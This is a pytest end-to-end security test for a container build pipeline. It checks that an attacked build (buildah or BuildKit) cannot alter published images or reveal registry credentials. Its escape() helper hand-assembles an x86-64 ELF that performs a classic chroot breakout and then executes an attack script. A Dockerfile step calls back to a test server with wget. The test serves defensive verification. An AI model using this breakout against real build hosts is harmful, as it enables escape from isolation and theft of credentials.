"""Argo's own folder in a pod that builds: whatever a build writes there, nothing that is published changes.

With buildah a RUN step itself leaves its chroot, which was accepted. With BuildKit, which lets none out, the same is
started in the container `build`: tests/e2e/attack.py.
"""

from __future__ import annotations

import base64
import json
import platform
import struct
import subprocess
from pathlib import Path

import pytest

from pipelines.tools.registry.client import Registry
from pipelines.tools.registry.credentials import Credentials
from pipelines.tools.registry.reference import Reference
from tests import git_server
from tests.build_workspace import each_builder
from tests.e2e.installation import PATIENCE_SECONDS, Installation, Run
from tests.e2e.place import kubectl
from tests.e2e.test_clone_build_push import closed, pods
from tests.e2e.test_secrets import docker_config, secret
from tests.git_repositories import Repository
from tests.git_server import GitServer

pytestmark = pytest.mark.skipif(platform.machine() != "x86_64", reason="the program that leaves a chroot is for x86-64")
ATTACK = Path(__file__).with_name("attack.py")
PROGRAM = "/shipway/clone/source/attack.py"
"""The same in the container `build`."""
USER, PASSWORD = "pusher", "s3cret-of-the-registry"
ENCODED = base64.b64encode(f"{USER}:{PASSWORD}".encode()).decode()
TOKEN = "eyJhbGciOi"
QUIET = ""
NAME = "attacked"


@pytest.fixture
def repository(git: GitServer) -> Repository:
    """Return a repository with an image that is made in one step."""
    return Repository(git.root / "app").write("attack.py", ATTACK.read_text())


@each_builder
@pytest.mark.parametrize(
    ("mode", "ends"),
    [("early", "main-3"), ("false", "main-0"), ("ended", "main-137"), ("failed", "main-9"), ("crashed", "main-0")],
)
def test_nothing_published_changes(
    builder: str,
    mode: str,
    ends: str,
    installation: Installation,
    git: GitServer,
    repository: Repository,
    tmp_path: Path,
) -> None:
    """The image, its tags and outputs are those of a quiet build, or there are none. No login and no token is shown."""
    logins = {"config.json": docker_config("registry.example.org", USER, PASSWORD)}
    with (
        git_server.serving(tmp_path, host=installation.where.host) as gate,
        secret(installation, "shipway-push", **logins),
    ):
        steps = f"RUN wget -q -O /dev/null {gate.url}/pass || true\n"
        if builder == "buildah":
            repository.write("escape", escape(["/usr/bin/python3", PROGRAM, git.url]), mode=0o755)
            steps = 'COPY escape /\nRUN ["/escape"]\n'
        repository.write("Dockerfile", f"FROM shipway.local/busybox:static\n{steps}").commit()

        run = attack(installation, git, gate, builder, mode)
        told = [request.rpartition("/attack/")[2] for request in git.requests if "/attack/" in request]
        # What Argo ends, it tries again; a RUN step attacks again.
        assert set(told) == {f"{mode}/begun", f"{mode}/{ends}"}, (told, installation.story(run))
        shown = json.dumps(run.document) + installation.story(run)
        assert not [text for text in (PASSWORD, ENCODED, TOKEN) if text in shown]
        seen = published(installation)

        quiet = attack(installation, git, gate, builder, QUIET)
        assert quiet.phase == "Succeeded", installation.story(quiet)
        after = published(installation)
        assert seen.items() <= after.items()
        assert set(after.values()) == {quiet.outputs["digest"]}
        if mode == "false":
            assert run.phase == "Succeeded", installation.story(run)
            assert len(run.attempts) == 1
            assert run.outputs == quiet.outputs
        if mode in {"false", "crashed"}:
            assert seen == after


def attack(installation: Installation, git: GitServer, gate: GitServer, builder: str, mode: str) -> Run:
    """Build in a project of the test's own, attacked in one way, or in peace."""
    if mode:
        installation.configure(builder=builder, project=f"{installation.namespace}/{builder}-{mode}")
    arguments = {"repo": f"{git.url}/app", "revision": "main", "path": ".", "name": NAME}
    if builder == "buildkit" and mode:
        closed(gate)
    run = installation.start("clone-build-push", **arguments, exclude=json.dumps([f"attack-{mode}"] if mode else []))
    if builder == "buildkit" and mode:
        assert gate.held.wait(PATIENCE_SECONDS)
        assert gate.hold
        (pod,) = pods(installation, run)
        command = ["exec", pod, "-c", "build", "--", "python3", PROGRAM, git.url]
        started = subprocess.Popen(["kubectl", "-n", installation.namespace, *command])
        started.wait(PATIENCE_SECONDS)
        gate.hold.set()
    return installation.finished(run)


def published(installation: Installation) -> dict[str, str]:
    """Return what each tag of the image names."""
    project = kubectl(installation.namespace, "get", "configmap", "shipway", "-o", "jsonpath={.data.project}")
    client = Registry(Credentials(), plain_http=frozenset({installation.where.registry}))
    image = Reference.under(installation.where.registry, project, NAME)
    found = {tag: client.resolve(image.with_tag(tag)) for tag in client.tags(image)}
    return {tag: str(manifest.descriptor.digest) for tag, manifest in found.items() if manifest}


def escape(argv: list[str]) -> bytes:
    """Return a program without libraries that leaves a chroot, as a root with CAP_SYS_CHROOT can, and becomes another.

    A process may change its root and stay where it is, outside of it; from there every `..` leads up.
    """
    texts = [b"inside\0", b"../" * 40 + b"\0", b".\0", *(word.encode() + b"\0" for word in argv)]
    call, calls, base, header, segment = 7 + 7 + 7 + 7 + 2, 6, 0x400000, 64, 56
    at = [base + header + segment + call * calls]
    for text in texts:
        at.append(at[-1] + len(text))
    inside, up, here, *words = at[:-1]
    arguments = at[-1]

    def system_call(number: int, *values: int) -> bytes:
        first, second, third = (*values, 0, 0, 0)[:3]
        moves = [(0xC0, number), (0xC7, first), (0xC6, second), (0xC2, third)]  # rax, rdi, rsi, rdx
        return (
            b"".join(b"\x48\xc7" + bytes((register,)) + struct.pack("<i", value) for register, value in moves)
            + b"\x0f\x05"
        )

    code = b"".join(
        (
            system_call(83, inside, 0o755),  # mkdir
            system_call(161, inside),  # chroot
            system_call(80, up),  # chdir
            system_call(161, here),
            system_call(59, words[0], arguments, arguments + 8 * len(words)),  # execve, with an empty environment
            system_call(60, 9),  # exit
        )
    )
    assert len(code) == call * calls
    body = code + b"".join(texts) + struct.pack(f"<{len(words) + 1}Q", *words, 0)
    size = header + segment + len(body)
    identity = b"\x7fELF" + bytes((2, 1, 1)) + bytes(9)
    elf = struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, base + header + segment, header, 0, 0, header, segment, 1, 0, 0, 0)
    load = struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, size, size, 0x1000)
    return identity + elf + load + body
